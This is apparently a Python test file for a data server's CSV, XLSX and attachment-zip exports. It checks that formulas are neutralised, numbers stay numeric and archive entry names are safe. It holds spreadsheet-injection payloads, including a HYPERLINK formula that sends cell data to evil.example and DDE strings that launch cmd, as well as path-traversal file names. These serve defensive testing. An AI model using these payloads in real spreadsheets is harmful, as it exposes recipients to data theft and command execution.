"""Hostile values in exports (hostile-inputs.md B3 51–56): formulas are made inert in CSV and
XLSX while numbers stay numbers, control characters never break an XLSX, CSV quoting
round-trips anything, and archive entry names are safe."""

# ruff: noqa: F811  (the shared fixtures come from test_exports and are parameters here)

from __future__ import annotations

import io
import zipfile
from xml.sax.saxutils import escape

from openpyxl import load_workbook
from sqlalchemy import select

from server.models import SubmissionRow
from tests.integration.test_exports import (  # noqa: F401  (fixtures)
    ROOT_V2,
    by_key,
    collect,
    get,
    read_csv,
    read_zip,
    submitted,
    v1,
    xml_v2,
)

HOSTILE = {
    "uuid:f1": '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "uuid:f2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "uuid:f3": "-2+3",
    "uuid:f4": "+cmd|' /C notepad'!A1",
    "uuid:f5": "\t=1+1",
    "uuid:f6": "\r=1+1",
    "uuid:f7": "%0A=1",
}


def _xml_text(value: str) -> str:
    return escape(value).replace("\r", "&#13;").replace("\t", "&#9;")


def send_hostile(collect) -> None:
    for instance_id, value in HOSTILE.items():
        collect.send(xml_v2(instance_id, name=_xml_text(value), phone="0700 000 000"))
    collect.send(xml_v2("uuid:n1", age="-5", wage="-1.5e3", name="Negative"))
    collect.send(xml_v2("uuid:n2", age="=1+1", wage="-1,5", name="Not numbers"))


def test_csv__formulas_get_a_quote_and_numbers_stay_numbers(client, project, auth, submitted):
    send_hostile(submitted)
    rows = by_key(read_csv(get(client, project, auth, "submissions.csv").data))
    for instance_id, value in HOSTILE.items():
        assert rows[instance_id]["name"] == "'" + value, instance_id
    assert rows["uuid:n1"]["age"] == "-5"
    assert rows["uuid:n1"]["work-wage"] == "-1.5e3"
    assert rows["uuid:n1"]["home-Latitude"] == "-6.8"
    assert rows["uuid:n1"]["route"] == "-6.8 39.28 0 0;-6.9 39.3 0 0"
    assert rows["uuid:n2"]["age"] == "'=1+1"
    assert rows["uuid:n2"]["work-wage"] == "'-1,5"


def test_xlsx__no_formula_anywhere_and_numbers_are_numeric_cells(client, project, auth,
                                                                 submitted):
    send_hostile(submitted)
    data = get(client, project, auth, "submissions.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(data), read_only=True)["migrants"]
    rows = {r[ROOT_V2.index("KEY")]: dict(zip(ROOT_V2, r, strict=True))
            for r in list(sheet.iter_rows(values_only=True))[1:]}
    for instance_id, value in HOSTILE.items():
        assert rows[instance_id]["name"] == "'" + value, instance_id
    assert rows["uuid:n1"]["age"] == -5 and rows["uuid:n1"]["work-wage"] == -1500.0
    assert rows["uuid:n1"]["home-Latitude"] == -6.8
    assert rows["uuid:n2"]["age"] == "'=1+1"


def test_control_characters__never_break_an_xlsx_and_round_trip_in_csv(client, project, auth,
                                                                       submitted, db):
    row = db.scalar(select(SubmissionRow).where(SubmissionRow.row_key == "uuid:b"))
    # reached the database by a non-XML path (PostgreSQL's JSONB cannot hold NUL at all;
    # the CSV writer's own tests cover it)
    hostile = "bad\x01\x0bvalue, \"quoted\"\r\nnext line\ufffe"
    row.data = {**row.data, "/name": hostile}
    db.commit()
    csv_rows = by_key(read_csv(get(client, project, auth, "submissions.csv").data))
    assert csv_rows["uuid:b"]["name"] == hostile
    book = load_workbook(io.BytesIO(get(client, project, auth, "submissions.xlsx").data))
    values = [r for r in book["migrants"].iter_rows(values_only=True)
              if r[ROOT_V2.index("KEY")] == "uuid:b"][0]
    assert values[ROOT_V2.index("name")] == "badvalue, \"quoted\"\r\nnext line"


def test_attachment_names__archive_entries_are_safe_and_distinct(client, project, auth,
                                                                 submitted):
    names = ["..%2Fx.jpg", "CON", "a b.jpg", "ñandú.jpg", ".htaccess"]
    for i, name in enumerate(names):
        submitted.send(xml_v2(f"uuid:att{i}", photo=escape(name)), {name: name.encode()})
    files = read_zip(get(client, project, auth, "attachments.zip").data)
    for entry in files:
        assert not entry.startswith("/") and ".." not in entry.split("/")
        assert "\\" not in entry
    by_content = {content.decode(errors="replace"): entry for entry, content in files.items()}
    assert by_content["CON"] == "uuid%3Aatt1/%43ON"
    assert by_content["a b.jpg"] == "uuid%3Aatt2/a b.jpg"
    assert by_content["ñandú.jpg"] == "uuid%3Aatt3/ñandú.jpg"
    assert by_content[".htaccess"] == "uuid%3Aatt4/%2Ehtaccess"
    assert by_content["..%2Fx.jpg"] == "uuid%3Aatt0/%2E.%252Fx.jpg"
